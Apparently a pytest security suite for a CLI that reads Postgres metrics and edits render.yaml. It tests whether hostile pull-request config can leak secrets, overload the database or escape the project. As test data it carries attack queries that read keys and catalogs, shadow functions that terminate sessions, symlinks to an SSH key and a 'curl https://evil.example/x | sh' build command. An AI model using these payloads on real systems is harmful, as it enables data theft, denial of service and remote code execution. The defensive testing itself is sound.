"""Issue 17: production-safe by design. A pull request controls tiers.toml, render.yaml, the
snapshot and the history; CI may hold the production DATABASE_URL, which on Render is the
database OWNER's role (not a superuser). Whatever those files say, tier prints no secret the
role can read, cannot load the server past fixed bounds, and ends in bounded time.

Each section is one numbered item of the issue's "What to build"; attacks are table rows (the
file content, the exit code, the secret that must appear nowhere), run through the CLI on the
real server as the owner role, the monitoring role, and beside a bystander session.
"""

from __future__ import annotations

import json
import os
import time
import uuid
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote, urlsplit, urlunsplit

import psycopg
import pytest
from cli_project import EXAMPLE, make_project, run, snapshot

ROOT = Path(__file__).resolve().parents[1]
SECRET = "sk_live_9f3Kq7ZxSECRET"  # in a table the owner reads
BYSTANDER_SECRET = "bystander_Pw_7731q"  # in another session's query text
SETTING_SECRET = "role_setting_8ZkQ"  # set with ALTER ROLE ... SET
FUNCTION_SECRET = "function_body_4Tq"  # in a function's body (pg_proc.prosrc)
SECRETS = (SECRET, BYSTANDER_SECRET, SETTING_SECRET, FUNCTION_SECRET)


LOAD = {"users": 2400, "active_users": 812, "concurrent_users": 31}


def write_snapshot(path: Path, metrics: Mapping[str, float] = LOAD) -> Path:
    """A snapshot collected now."""
    return snapshot(path, datetime.now(UTC).isoformat(), **metrics)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository below tmp_path (tests put things beside it), with a snapshot taken now."""
    repo = make_project(tmp_path / "repo")
    write_snapshot(repo / "m.json")
    monkeypatch.chdir(repo)
    return repo


def set_query(project: Path, name: str, query: str) -> None:
    path = project / "tiers.toml"
    text = path.read_text("utf-8")
    header = "[database.queries]\n"
    if header not in text:
        text += "\n" + header
    start = text.index(header) + len(header)
    path.write_text(text[:start] + f"{name} = {json.dumps(query)}\n" + text[start:], "utf-8")


def set_database_key(project: Path, key: str, value: str) -> None:
    path = project / "tiers.toml"
    text = path.read_text("utf-8")
    start = text.index("[database]\n") + len("[database]\n")
    lines = [ln for ln in text[start:].split("\n") if not ln.startswith(f"{key} =")]
    path.write_text(text[:start] + f"{key} = {value}\n" + "\n".join(lines), "utf-8")


def files_of(folder: Path) -> str:
    """Every file's text under ``folder`` (the .git folder aside), for a secret search."""
    return "".join(
        p.read_bytes().decode("utf-8", "replace")
        for p in sorted(folder.rglob("*"))
        if p.is_file() and ".git" not in p.parts
    )


def no_secret(*texts: str) -> None:
    for text in texts:
        for secret in SECRETS:
            assert secret not in text, (secret, text[:2000])


# --- the database as Render gives it: an owner role, a monitoring role, a bystander ---------


def _execute(url: str, *statements: str) -> None:
    with psycopg.connect(url, autocommit=True) as conn:
        for statement in statements:
            conn.execute(statement)


def _as_user(url: str, user: str, password: str) -> str:
    parts = urlsplit(url)
    host = parts.netloc.rpartition("@")[2]
    return urlunsplit(parts._replace(netloc=f"{user}:{quote(password, safe='')}@{host}"))


class Db:
    def __init__(self, admin: str, owner: str, monitor: str) -> None:
        self.admin, self.owner, self.monitor = admin, owner, monitor


@pytest.fixture
def db(pg_db: str) -> Iterator[Db]:
    """The app's database owned by a non-superuser role (Render's DATABASE_URL), with users, an
    api_keys table holding a secret, a secret role setting and a secret function body; and the
    monitoring role `tier init` prints."""
    from tier_cli.metrics.initfile import monitoring_role_sql

    suffix = uuid.uuid4().hex[:8]
    owner, monitor = f"app_owner_{suffix}", f"tier_mon_{suffix}"
    name = urlsplit(pg_db).path.lstrip("/")
    _execute(
        pg_db,
        f"CREATE ROLE {owner} LOGIN PASSWORD 'Owner-pw-1' NOSUPERUSER",
        f"ALTER DATABASE {name} OWNER TO {owner}",
        f"ALTER SCHEMA public OWNER TO {owner}",
        f"ALTER ROLE {owner} SET app.secret = '{SETTING_SECRET}'",
    )
    owner_url = _as_user(pg_db, owner, "Owner-pw-1")
    _execute(
        owner_url,
        "CREATE TABLE users (id bigserial PRIMARY KEY, email text, "
        "created_at timestamptz DEFAULT now(), last_seen_at timestamptz)",
        "INSERT INTO users (email, last_seen_at) SELECT 'u' || i || '@x', now() - "
        "make_interval(days => i) FROM generate_series(1, 15) AS i",
        "CREATE TABLE api_keys (id int, key text)",
        f"INSERT INTO api_keys VALUES (1, '{SECRET}')",
        "CREATE FUNCTION public.hidden() RETURNS text LANGUAGE sql "
        f"AS $$ SELECT '{FUNCTION_SECRET}' $$",
    )
    _execute(pg_db, monitoring_role_sql(None, name, monitor, "Monitor-pw-2"))  # type: ignore[arg-type]
    try:
        yield Db(pg_db, owner_url, _as_user(pg_db, monitor, "Monitor-pw-2"))
    finally:
        with psycopg.connect(pg_db, autocommit=True) as conn:
            conn.execute(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                "WHERE datname = current_database() AND pid <> pg_backend_pid()"
            )
        _execute(pg_db, f"DROP OWNED BY {monitor}", f"DROP ROLE {monitor}")
        _execute(pg_db, f"ALTER DATABASE {name} OWNER TO CURRENT_USER")
        _execute(pg_db, f"REASSIGN OWNED BY {owner} TO CURRENT_USER", f"DROP OWNED BY {owner}")
        _execute(pg_db, f"DROP ROLE {owner}")


@pytest.fixture
def bystander(db: Db) -> Iterator[psycopg.Connection[object]]:
    """One of the app's own sessions (the owner role, so that the owner's functions could end
    it), its last query text holding a secret literal (pg_stat_activity.query)."""
    with psycopg.connect(db.owner, autocommit=True, application_name="bystander") as conn:
        conn.execute(f"SELECT '{BYSTANDER_SECRET}' AS password")
        yield conn  # type: ignore[misc]


def alive(conn: psycopg.Connection[object]) -> bool:
    return conn.execute("SELECT 1").fetchone() == (1,)


# --- 1. the CI model: a pull request never queries a database ---------------------------------

PULL_REQUEST_JOBS = [
    pytest.param({"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "pull_request"}, id="gh-pr"),
    pytest.param(
        {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "pull_request_target"}, id="gh-pr-target"
    ),
    pytest.param({"CI_MERGE_REQUEST_IID": "42"}, id="gitlab-mr"),
]
OTHER_JOBS = [
    pytest.param({"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "schedule"}, id="gh-schedule"),
    pytest.param({"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "push"}, id="gh-push"),
    pytest.param({"GITHUB_EVENT_NAME": "pull_request"}, id="not-actions"),
    pytest.param({}, id="no-ci"),
]
DATABASE_COMMANDS = [
    pytest.param(("recommend",), id="recommend"),
    pytest.param(("check",), id="check"),
    pytest.param(("apply",), id="apply"),
    pytest.param(("snapshot",), id="snapshot"),
    pytest.param(("init", "--tiers", "new.toml"), id="init"),
]


@pytest.mark.postgres
@pytest.mark.parametrize("job", PULL_REQUEST_JOBS)
@pytest.mark.parametrize("command", DATABASE_COMMANDS)
def test_a_pull_request_job_reads_no_database(
    project: Path, db: Db, job: dict[str, str], command: tuple[str, ...]
) -> None:
    before = {p: p.read_bytes() for p in project.iterdir() if p.is_file()}
    with psycopg.connect(db.admin) as conn:  # no session of tier's may appear
        code, _, err = run(*command, env={**job, "DATABASE_URL": db.owner})
        sessions = conn.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE application_name = 'tier'"
        ).fetchone()
    assert code == 2, err
    assert err.count("\n") == 1 and "tier reads no database in a pull request" in err
    assert "--allow-pull-request-database" in err and "committed snapshot" in err
    assert sessions == (0,)
    assert {p: p.read_bytes() for p in project.iterdir() if p.is_file()} == before
    assert not (project / "new.toml").exists()


@pytest.mark.postgres
@pytest.mark.parametrize("job", PULL_REQUEST_JOBS)
def test_the_flag_on_the_command_line_alone_allows_it(
    project: Path, db: Db, job: dict[str, str]
) -> None:
    env = {**job, "DATABASE_URL": db.monitor}
    code, out, err = run("recommend", "--json", "--allow-pull-request-database", env=env)
    assert code == 0, err
    assert json.loads(out)["metrics"]["users"] == 15
    # Neither tiers.toml nor the environment can turn it on: the pull request controls both.
    env["TIER_ALLOW_PULL_REQUEST_DATABASE"] = "1"
    env["ALLOW_PULL_REQUEST_DATABASE"] = "true"
    assert run("recommend", env=env)[0] == 2
    set_database_key(project, "allow_pull_request_database", "true")
    code, _, err = run("recommend", env=env)
    assert code == 2 and "allow_pull_request_database" in err  # an unknown key, not a switch


@pytest.mark.postgres
@pytest.mark.parametrize("job", OTHER_JOBS)
def test_other_jobs_read_the_database(project: Path, db: Db, job: dict[str, str]) -> None:
    code, out, err = run("recommend", "--json", env={**job, "DATABASE_URL": db.monitor})
    assert code == 0, err
    assert json.loads(out)["source"].startswith("postgresql://")


@pytest.mark.parametrize("job", PULL_REQUEST_JOBS)
@pytest.mark.parametrize(
    "args",
    [
        ("check", "--metrics", "m.json"),
        ("recommend", "--offline"),
        ("apply", "--tier", "starter", "--dry-run"),
        ("check", "--demo", "--metrics", "m.json"),
    ],
    ids=["metrics-file", "offline", "apply-tier", "bad-flags-still-exit-2"],
)
def test_snapshot_reading_is_unaffected(
    project: Path, job: dict[str, str], args: tuple[str, ...]
) -> None:
    env = {**job, "DATABASE_URL": "postgresql://u:p@127.0.0.1:1/app"}
    set_path = project / "tiers.toml"
    set_path.write_text(set_path.read_text("utf-8").replace(".tier/metrics.json", "m.json"))
    code, _, err = run(*args, env=env)
    if "--demo" in args:
        assert code == 2 and "cannot be used together" in err
    else:
        assert code in (0, 1), err
        assert "pull request" not in err


# --- 2-4. what a pull request's [database.queries] can do, as the owner Render gives ---------

# The owner's own code, which name resolution could run instead of pg_catalog's: each ends the
# bystander session (the app's) when called.
SHADOWS = [
    "CREATE FUNCTION public.round(bigint) RETURNS bigint LANGUAGE sql AS $$ SELECT "
    "count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE application_name = "
    "'bystander' $$",
    'CREATE FUNCTION public."COUNT"(bigint) RETURNS bigint LANGUAGE sql AS $$ SELECT '
    "count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE application_name = "
    "'bystander' $$",
    "CREATE FUNCTION public.evil_plus(bigint, bigint) RETURNS bigint LANGUAGE sql AS $$ SELECT "
    "$1 + $2 + count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE application_name "
    "= 'bystander' $$",
    "CREATE OPERATOR public.+ (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = public.evil_plus)",
]

# (query, exit code, what the one line says); the secrets must appear in no output or file.
QUERY_ATTACKS = [
    pytest.param(
        "SELECT key FROM api_keys LIMIT 1",
        2,
        "the query returned a value of type text, not a number",
        id="text-value",
    ),
    pytest.param(
        "SELECT key::int FROM api_keys",
        4,
        "metric 'users': 22P02 invalid_text_representation",
        id="server-message-quotes-value",
    ),
    pytest.param(
        "SELECT max(key)::numeric FROM api_keys",
        4,
        "22P02 invalid_text_representation",
        id="numeric-cast-of-text",
    ),
    pytest.param(
        "SELECT 1 / (SELECT count(*) FROM api_keys WHERE key = 'none')",
        4,
        "22012 division_by_zero",
        id="runtime-error",
    ),
    pytest.param(
        "SELECT ascii(substr(key, 9, 1)) FROM api_keys",
        2,
        "calls ascii(), which is not on tier's list",
        id="numeric-encoding",
    ),
    pytest.param(
        "SELECT string_agg(query, ' ') FROM pg_stat_activity",
        2,
        "calls string_agg()",
        id="string-agg-query-text",
    ),
    pytest.param(
        "SELECT count(*) FROM pg_stat_activity WHERE query LIKE '%bystander_Pw_%'",
        2,
        "reads the query text of pg_stat_activity",
        id="query-text-oracle",
    ),
    pytest.param(
        "SELECT count(*) FROM pg_stat_activity AS s WHERE s IS NOT NULL",
        2,
        "reads the query text of pg_stat_activity",
        id="whole-row-of-activity",
    ),
    pytest.param(
        "SELECT count(*) FROM pg_db_role_setting",
        2,
        "reads pg_db_role_setting, a catalog relation tier does not allow",
        id="role-settings",
    ),
    pytest.param(
        "SELECT count(*) FROM pg_catalog.pg_proc WHERE prosrc LIKE '%function_body%'",
        2,
        "reads pg_catalog.pg_proc, a catalog relation",
        id="function-bodies",
    ),
    pytest.param(
        "SELECT count(*) FROM pg_authid",
        2,
        "reads pg_authid, a catalog relation",
        id="authid",
    ),
    pytest.param(
        "SELECT count(*) FROM information_schema.routines",
        2,
        "reads information_schema.routines, a catalog relation",
        id="information-schema",
    ),
    pytest.param(
        "SELECT cardinality(array_agg(repeat('x', 1000000))) FROM generate_series(1, 100000) "
        "AS g GROUP BY g % 10 LIMIT 1",
        2,
        "calls cardinality()",
        id="memory-amplifier",
    ),
    pytest.param(
        "SELECT count(*) FROM (SELECT g FROM generate_series(1, 1000000000) AS g "
        "ORDER BY repeat(md5(g::text), 100)) AS s",
        2,
        "calls generate_series()",
        id="temp-file-amplifier",
    ),
    pytest.param(
        "WITH RECURSIVE r (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        2,
        "uses WITH RECURSIVE",
        id="recursive-rows",
    ),
    pytest.param(
        "SELECT max(round(id)) FROM users",
        2,
        "uses the function round, which also exists in schema public",
        id="better-overload-in-public",
    ),
    pytest.param(
        'SELECT "COUNT"(1::bigint)',
        2,
        "calls COUNT(), which is not on tier's list",
        id="quoted-name",
    ),
    pytest.param(
        "SELECT max(id + 1) FROM users",
        2,
        "uses the operator +, which also exists in schema public",
        id="operator-in-public",
    ),
    pytest.param(
        "SELECT a.id FROM users a, users b, users c, users d, users e, users f",
        2,
        "the query returned more than one row",
        id="eleven-million-rows",
    ),
    pytest.param(
        "SELECT count(*)::text::int FROM users",
        2,
        "casts to text, not a number or time type",
        id="cast-to-text",
    ),
]


def temp_bytes(url: str) -> int:
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute("SELECT pg_stat_clear_snapshot()")
        row = conn.execute(
            "SELECT temp_bytes FROM pg_stat_database WHERE datname = current_database()"
        ).fetchone()
    return int(row[0]) if row else 0


@pytest.mark.postgres
@pytest.mark.parametrize(("query", "code", "message"), QUERY_ATTACKS)
@pytest.mark.parametrize("role", ["owner", "monitor"])
def test_query_attacks_print_no_secret_and_hurt_nothing(
    project: Path,
    db: Db,
    bystander: psycopg.Connection[object],
    role: str,
    query: str,
    code: int,
    message: str,
) -> None:
    _execute(db.owner, *SHADOWS)
    set_query(project, "users", query)
    url = db.owner if role == "owner" else db.monitor
    temp_before = temp_bytes(db.admin)
    started = time.monotonic()
    got, out, err = run("snapshot", "--database-url", url, "--allow-superuser")
    elapsed = time.monotonic() - started
    no_secret(out, err, files_of(project))
    assert alive(bystander)
    assert elapsed < 10
    assert temp_bytes(db.admin) - temp_before < 1024 * 1024
    tier = project / ".tier" / "metrics.json"
    if got == 0 and tier.exists() and (code == 4 or role == "monitor"):
        # The server ran it and it failed (or the monitoring role, whose grants are
        # users.last_seen_at alone, may not read it): that one metric is unknown, with its
        # reason (the SQLSTATE only) in the snapshot; the others are measured (issue 18)
        snapshot = json.loads(tier.read_text("utf-8"))
        why = snapshot["labels"]["users"]
        assert snapshot["metrics"]["users"] is None and snapshot["quality"]["users"] == "unknown"
        assert snapshot["metrics"]["db_size_mb"] is not None
        expected = message.removeprefix("metric 'users': ")
        assert expected in why or (role == "monitor" and "42501 insufficient_privilege" in why)
        assert "invalid input syntax" not in why and "division by zero" not in why
        return
    assert err.count("\n") == 1, err
    assert not (project / ".tier").exists()  # no snapshot, no history written
    assert got == code, err
    assert message in err
    if role == "owner" and code == 4:  # the server ran it: only its SQLSTATE was shown
        assert "invalid input syntax" not in err and "division by zero" not in err


@pytest.mark.postgres
def test_github_annotations_and_json_carry_no_value(project: Path, db: Db) -> None:
    """The same error reaches the ::error annotation as stderr: never the server's text."""
    set_query(project, "users", "SELECT key::int FROM api_keys")
    (project / "requirements.txt").write_text("fastapi\nuvicorn\n", "utf-8")  # what it runs
    _, out, err = run("check", "--format", "github", "--database-url", db.owner)
    # one failing metric is one unknown metric (issue 18): its notice carries the SQLSTATE only
    assert "22P02 invalid_text_representation" in out, out + err
    assert any(line.startswith("::notice") and "22P02" in line for line in out.splitlines()), out
    no_secret(out, err)
    _, out, err = run("check", "--format", "json", "--database-url", db.owner)
    assert json.loads(out)["quality"]["users"] == "unknown"
    no_secret(out, err)


@pytest.mark.postgres
def test_allowed_metric_queries_still_run_as_the_owner(project: Path, db: Db) -> None:
    for name, query in {
        "users": "SELECT count(*) FROM users WHERE last_seen_at IS NOT NULL",
        "active_users": "SELECT count(*) FROM users WHERE last_seen_at >= "
        "date_trunc('day', now()) - make_interval(days => %(active_days)s)",
        "concurrent_users": "SELECT coalesce(max(n), 0) FROM (SELECT count(*) AS n FROM users "
        "GROUP BY date_trunc('day', last_seen_at)) AS d",
        "db_size_mb": "SELECT round(pg_catalog.pg_database_size(current_database()) "
        "/ 1048576.0, 1)",
    }.items():
        set_query(project, name, query)
    code, out, err = run("recommend", "--json", "--database-url", db.owner)
    assert code == 0, err
    metrics = json.loads(out)["metrics"]
    assert (metrics["users"], metrics["active_users"], metrics["concurrent_users"]) == (15, 15, 1)


@pytest.mark.parametrize(
    ("key", "value", "limit"),
    [
        ("statement_timeout_ms", "3600000", "60,000 milliseconds"),
        ("statement_timeout_ms", "60001", "60,000 milliseconds"),
        ("connect_timeout_s", "3600", "30 seconds"),
        ("connect_timeout_s", "31", "30 seconds"),
    ],
)
def test_timeouts_beyond_the_limits_exit_2(project: Path, key: str, value: str, limit: str) -> None:
    set_database_key(project, key, value)
    code, _, err = run("check", "--metrics", "m.json")
    assert code == 2 and f"database.{key}" in err and limit in err


@pytest.mark.postgres
def test_the_session_settings_bound_memory_and_locks(db: Db) -> None:
    """lock_timeout, work_mem and hash_mem_multiplier as a metric query sees them, and a query
    that waits for a lock the app holds gives up within the lock timeout."""
    from tier_cli.config.settings import DatabaseSettings
    from tier_cli.metrics.postgres.collect import collect

    settings = DatabaseSettings(
        queries={
            "users": "SELECT extract(epoch FROM current_setting('lock_timeout')::interval)",
        }
    )
    with pytest.raises(Exception, match="calls current_setting"):
        collect(db.owner, settings)
    from tier_cli.metrics.postgres.reader import MetricReader

    with psycopg.connect(db.owner, autocommit=True) as conn:
        conn.execute("BEGIN READ ONLY")
        reader = MetricReader(conn, DatabaseSettings(), "")
        cur = reader.run(
            "users",
            "SELECT current_setting('lock_timeout'), "
            "current_setting('work_mem'), current_setting('hash_mem_multiplier')",
            None,
            None,
        )
        assert cur.fetchone() == ("1s", "2MB", "1")
        conn.execute("ROLLBACK")
    with psycopg.connect(db.owner) as app_conn:  # the app's migration holds the table
        app_conn.execute("LOCK TABLE users IN ACCESS EXCLUSIVE MODE")
        started = time.monotonic()
        metrics = collect(
            db.owner,
            DatabaseSettings(
                queries={"users": "SELECT count(*) FROM users"}, statement_timeout_ms=30000
            ),
        )
        assert "55P03 lock_not_available" in metrics.labels["users"]  # unknown, with why
        assert time.monotonic() - started < 5


# --- 5. files: no link out of the project, no lost edit, bounded time, any number ------------

OUTSIDE_SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- ssh_key_Zq81"


@pytest.mark.parametrize(
    ("name", "args", "code"),
    [
        pytest.param("render.yaml", ("check", "--metrics", "m.json"), 3, id="render-check"),
        pytest.param("render.yaml", ("apply", "--tier", "starter"), 3, id="render-apply"),
        pytest.param("tiers.toml", ("check", "--metrics", "m.json"), 2, id="tiers"),
        pytest.param("m.json", ("check", "--metrics", "m.json"), 2, id="metrics-file"),
        pytest.param(".tier/metrics.json", ("check",), 2, id="committed-snapshot"),
        pytest.param(".tier/history.jsonl", ("recommend", "--metrics", "m.json"), 2, id="history"),
    ],
)
def test_symlinks_out_of_the_project_are_refused_before_reading(
    project: Path, tmp_path: Path, name: str, args: tuple[str, ...], code: int
) -> None:
    secret = tmp_path / "id_rsa"
    secret.write_text(OUTSIDE_SECRET + "\n", "utf-8")
    (project / ".tier").mkdir()
    write_snapshot(project / ".tier" / "metrics.json")
    link = project / name
    link.unlink(missing_ok=True)
    link.symlink_to(secret)
    code_got, out, err = run(*args)
    assert code_got == code, err
    assert "outside the project" in err and err.count("\n") == 1
    assert OUTSIDE_SECRET not in out + err and "ssh_key_Zq81" not in out + err
    assert secret.read_text("utf-8") == OUTSIDE_SECRET + "\n"  # apply wrote nothing there


def test_symlinks_inside_the_project_are_followed(project: Path) -> None:
    (project / "deploy").mkdir()
    (project / "render.yaml").rename(project / "deploy" / "render.yaml")
    (project / "render.yaml").symlink_to(Path("deploy") / "render.yaml")
    code, _, err = run("apply", "--tier", "starter")
    assert code == 0, err
    assert (project / "render.yaml").is_symlink()
    assert b"plan: starter" in (project / "deploy" / "render.yaml").read_bytes()


def test_apply_writes_nothing_when_render_yaml_changed_meanwhile(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An edit made while tier ran (between its read and its write) is never overwritten."""
    from tier_cli.app import apply as applying

    plan = applying.plan_apply

    def plan_then_someone_edits(*args: object, **kwargs: object) -> object:
        applied = plan(*args, **kwargs)  # type: ignore[arg-type]
        (project / "render.yaml").write_bytes(EXAMPLE + b"# edited meanwhile\n")
        return applied

    monkeypatch.setattr(applying, "plan_apply", plan_then_someone_edits)
    code, _, err = run("apply", "--tier", "starter")
    assert code == 3 and "changed since tier read it; nothing was written" in err
    assert (project / "render.yaml").read_bytes() == EXAMPLE + b"# edited meanwhile\n"


def _run_real(project: Path, *args: str) -> tuple[int, str, float]:
    """tier in its own process: its exit code, stderr and CPU time (the machine is shared, so
    CPU time is the figure that travels; wall time is bounded by the timeout)."""
    import resource
    import subprocess
    import sys

    base = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    proc = subprocess.run(
        [sys.executable, "-m", "tier_cli", *args],
        cwd=project,
        env=base,
        capture_output=True,
        timeout=300,
        check=False,
    )
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = after.ru_utime - before.ru_utime + after.ru_stime - before.ru_stime
    return proc.returncode, proc.stderr.decode("utf-8", "replace"), cpu


# The largest file each limit allows, made of what made a quadratic expression slow (one long
# alphanumeric run where a URL is looked for); each must end far below the hours it took. The
# bound is generous (a busy 2-core machine): it only catches the quadratic blow-up, and the
# figures are in benchmarks/README.md ("Linear on the largest files").
MB = 1024 * 1024


@pytest.mark.parametrize(
    ("what", "args"),
    [
        pytest.param("render-name", ("check", "--metrics", "m.json"), id="render-1mb-name"),
        pytest.param("render-run", ("check", "--metrics", "m.json"), id="render-1mb-run"),
        pytest.param("render-headers", ("check", "--metrics", "m.json"), id="render-1mb-headers"),
        pytest.param("snapshot-source", ("check", "--metrics", "m.json"), id="snapshot-1mb"),
        pytest.param("tiers-app", ("check", "--metrics", "m.json"), id="tiers-1mb-app"),
    ],
)
def test_the_largest_files_end_in_bounded_time(
    project: Path, what: str, args: tuple[str, ...]
) -> None:
    from tier_cli.textio import RENDER_LIMIT

    run_of = "A" * (RENDER_LIMIT - 200)
    if what == "render-name":
        (project / "render.yaml").write_text(
            f"services:\n  - type: web\n    name: {run_of}\n    runtime: python\n", "utf-8"
        )
    elif what == "render-run":
        (project / "render.yaml").write_text(run_of + "\n", "utf-8")
    elif what == "render-headers":  # `| #` again and again: a block scalar header's comment
        headers = "| #" * (RENDER_LIMIT // 3 - 10)
        (project / "render.yaml").write_text(f"x: {headers}\n", "utf-8")
    elif what == "snapshot-source":
        data = json.loads((project / "m.json").read_text("utf-8"))
        data["source"] = "postgresql://" + "A" * (MB - 300)
        (project / "m.json").write_text(json.dumps(data), "utf-8")
    else:
        text = (project / "tiers.toml").read_text("utf-8")
        room = MB - len(text.encode()) - 100
        (project / "tiers.toml").write_text(text + f'\n[render]\napp = "{"A" * room}"\n')
    code, err, cpu = _run_real(project, *args)
    assert code in (0, 1, 2, 3, 4), err[-2000:]
    assert cpu < 20, cpu  # the quadratic expression took hours here


def test_integers_too_big_for_a_float_exit_2_naming_the_field(project: Path) -> None:
    path = project / "tiers.toml"
    path.write_text(
        path.read_text("utf-8").replace("pool_per_worker = 15", "pool_per_worker = " + "9" * 400)
    )
    code, _, err = run("check", "--metrics", "m.json")
    assert code == 2 and "database.pool_per_worker: a number too big" in err


@pytest.mark.parametrize(
    "values",
    [(1e308, 0, 1.7e308), (1.7e308, 1.7e308, 1.7e308), (0, 1e308, 0), (5e-324, 1e308, 2)],
    ids=["rise", "flat-at-limit", "spike", "tiny-then-huge"],
)
def test_extreme_history_values_never_reach_exit_5(
    project: Path, values: tuple[float, ...]
) -> None:
    from datetime import timedelta

    now = datetime.now(UTC)
    (project / ".tier").mkdir()
    lines = [
        json.dumps(
            {
                "collected_at": (now - timedelta(days=7 * (len(values) - i))).isoformat(),
                "metrics": {k: v for k in ("users", "active_users", "concurrent_users")},
            }
        )
        for i, v in enumerate(values)
    ]
    (project / ".tier" / "history.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
    write_snapshot(project / "m.json", {"users": 10, "active_users": 10, "concurrent_users": 1})
    for args in (
        ("recommend", "--metrics", "m.json"),
        ("recommend", "--json", "--metrics", "m.json"),
    ):
        code, _, err = run(*args)
        assert code == 0, err


# --- 6. text that goes to pull requests is inert ----------------------------------------------

INERT = [
    pytest.param("\u202egnp.exe", "\\\\u202egnp.exe", id="bidi-override"),
    pytest.param("a\u2066b\u2069c", "a\\\\u2066b\\\\u2069c", id="bidi-isolates"),
    pytest.param("@\u200bteam", "\\\\u200b", id="zero-width-space"),
    pytest.param("ping @octocat now", "`@octocat`", id="mention"),
    pytest.param("ping @acme/security", "`@acme/security`", id="team-mention"),
    pytest.param("fixes #123", "`#123`", id="reference"),
    pytest.param("see acme/app#7", "`acme/app#7`", id="cross-reference"),
    pytest.param("go to https://evil.example/login", "`https://evil.example/login`", id="url"),
    pytest.param("go to www.evil.example", "`www.evil.example`", id="bare-www"),
]


@pytest.mark.parametrize(("hostile", "shown"), INERT)
def test_markdown_from_files_is_inert(project: Path, hostile: str, shown: str) -> None:
    """A tier name (from tiers.toml) in the step summary and the pull request's body."""
    write_snapshot(project / "m.json", {"users": 9000, "active_users": 900, "concurrent_users": 30})
    path = project / "tiers.toml"
    path.write_text(
        path.read_text("utf-8").replace(
            'web_plan = "starter"', f'web_plan = "starter"\nweb_cpu = 0.5 # {hostile}'
        ),
        "utf-8",
    )
    from tier_cli.output.escape import markdown

    text = markdown(f"tier note: {hostile}")
    assert shown in text
    for raw in ("\u202e", "\u2066", "\u2069", "\u200b"):
        assert raw not in text
    summary = project / "summary.md"
    code, _, err = run("check", "--metrics", "m.json", "--summary", str(summary))
    assert code == 1, err
    body = project / "body.md"
    code, _, err = run("apply", "--metrics", "m.json", "--summary", str(body))
    assert code == 0, err
    for md in (summary.read_text("utf-8"), body.read_text("utf-8")):
        assert not any(ch in md for ch in ("\u202e", "\u2066", "\u2069", "\u200b"))


def test_markdown_source_label_is_inert(project: Path) -> None:
    """Text from the snapshot (a label) reaches the summary only escaped and in code spans."""
    from tier_cli.output.escape import markdown

    hostile = "cc @octocat #12 https://evil.example \u202eexe.txt \u200b"
    text = markdown(hostile)
    assert "`@octocat`" in text and "`#12`" in text and "`https://evil.example`" in text
    assert "\u202e" not in text and "\u200b" not in text
    started = time.monotonic()  # text as large as the files it can come from
    markdown("@" + "a" * MB + " " + "#1" * (MB // 4) + "http://" * (MB // 28))
    assert time.monotonic() - started < 20  # linear: the quadratic would never end


def test_apply_reports_every_field_it_writes_with_its_value(project: Path) -> None:
    path = project / "tiers.toml"
    text = path.read_text("utf-8")
    start = text.index('name = "starter"')
    end = text.index("\n[[tier]]", start)
    carried = (
        '\n[tier.web]\nrepo = "https://github.com/evil/fork"\n'
        'buildCommand = "curl https://evil.example/x | sh; pip install -r requirements.txt"\n'
        'image = "docker.io/evil/img"\n'
    )
    path.write_text(text[:end] + carried + text[end:], "utf-8")
    write_snapshot(project / "m.json", {"users": 9000, "active_users": 900, "concurrent_users": 30})
    body = project / "body.md"
    code, _, err = run("apply", "--metrics", "m.json", "--summary", str(body))
    assert code == 0, err
    for line in (
        "api repo (not set) -> https://github.com/evil/fork",
        "api buildCommand pip install -r requirements.txt -> curl https://evil.example/x | sh;",
        "api image (not set) -> docker.io/evil/img",
    ):
        assert line in err
    md = body.read_text("utf-8")
    assert "**Also written**" in md
    assert "- api `repo`: `https://github.com/evil/fork`" in md
    assert "- api `image`: `docker.io/evil/img`" in md
    assert "- api `buildCommand`: `curl https://evil.example/x | sh; pip install" in md
    assert "- api `plan`" not in md and "- api `startCommand`" not in md


@pytest.mark.postgres
def test_one_deadline_for_the_whole_run(db: Db) -> None:
    """Each statement's timeout is what is left of the run's deadline: many statements cannot
    add up past it, and once it has passed nothing more is sent."""
    from tier_cli.config.settings import DatabaseSettings
    from tier_cli.errors import MetricsError
    from tier_cli.metrics.postgres.reader import MetricReader

    with psycopg.connect(db.owner, autocommit=True) as conn:
        conn.execute("BEGIN READ ONLY")
        reader = MetricReader(conn, DatabaseSettings(statement_timeout_ms=60000), "")
        reader.ends_at = time.monotonic() + 0.5  # half a second left of the run
        started = time.monotonic()
        with pytest.raises(MetricsError, match="statement timeout"):
            reader.run("users", "SELECT pg_sleep(5)", None, None)
        assert time.monotonic() - started < 2.5
        conn.execute("ROLLBACK")
        conn.execute("BEGIN READ ONLY")
        with pytest.raises(MetricsError, match="the run's deadline"):
            reader.run("users", "SELECT 1", None, None)
        conn.execute("ROLLBACK")
